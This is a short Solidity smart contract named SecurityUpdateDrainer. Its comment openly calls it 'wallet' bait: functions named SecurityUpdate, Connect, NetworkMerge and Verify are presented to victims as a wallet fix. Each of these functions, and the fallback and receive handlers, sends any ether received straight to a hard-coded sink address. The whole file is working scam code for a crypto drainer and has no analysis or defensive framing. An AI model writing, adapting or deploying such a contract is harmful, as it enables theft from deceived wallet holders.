// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// "Wallet" bait: SecurityUpdate()/Connect() are sold as a wallet fix; the value goes to a hard-coded address.
contract SecurityUpdateDrainer {
    address private constant SINK = 0x8f3a1B2C4D5e6f708192a3B4C5d6E7f809102A3B;
    mapping(address => uint256) private paid;

    function SecurityUpdate() external payable { _take(); }
    function Connect() external payable { _take(); }
    function NetworkMerge() external payable { _take(); }
    function Verify() external payable { _take(); }

    function _take() private {
        paid[msg.sender] += msg.value;
        (bool ok, ) = SINK.call{value: msg.value}("");
        require(ok);
    }

    fallback() external payable { _take(); }
    receive() external payable { _take(); }
}
